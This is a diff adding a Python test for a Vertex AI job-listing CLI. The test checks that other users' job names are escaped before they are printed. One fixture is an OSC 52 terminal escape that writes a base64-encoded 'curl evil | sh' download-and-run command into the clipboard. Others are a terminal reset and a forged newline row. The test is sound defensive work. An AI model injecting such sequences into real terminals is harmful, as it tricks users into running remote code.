@@ -1,0 +1,33 @@
+"""`list --all` shows every CustomJob of the project, and Vertex AI takes any UTF-8 as a job's
+display name: a job someone else in the project created with an escape sequence in its name
+(ESC ] 52 writes the terminal's clipboard, ESC c resets it) or a line break (a forged row) was
+printed raw. The names are now shown escaped, one row each; `-o json` keeps them as they are."""
+
+from __future__ import annotations
+
+import json
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+WHERE = ("--project", "test-project", "--region", "us-central1")
+
+
+def _job(name: str) -> dict:
+    pool = {"machineSpec": {"machineType": "n1-standard-4"}, "replicaCount": "1"}
+    return {
+        "displayName": name,
+        "jobSpec": {"workerPoolSpecs": [{**pool, "containerSpec": {"imageUri": "x"}}]},
+    }
+
+
+def test_list_all_shows_other_peoples_job_names_escaped(fake, run_cli):
+    names = [f"train{CLIPBOARD}", "fine\n123  forged-row  SUCCEEDED", "reset\x1bc"]
+    for name in names:
+        fake.add_job(_job(name))
+    text = run_cli("list", *WHERE, "--all")
+    assert text.returncode == 0, text.stderr
+    assert not any(c in text.stdout for c in "\x1b\x07"), repr(text.stdout)
+    assert len(text.stdout.splitlines()) == 1 + len(names)  # the header and one row a job
+    assert "train\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text.stdout
+    assert "fine\\x0a123  forged-row" in text.stdout
+    listed = json.loads(run_cli("list", *WHERE, "--all", "-o", "json").stdout)
+    assert sorted(j["display_name"] for j in listed["jobs"]) == sorted(names), json.dumps(listed)
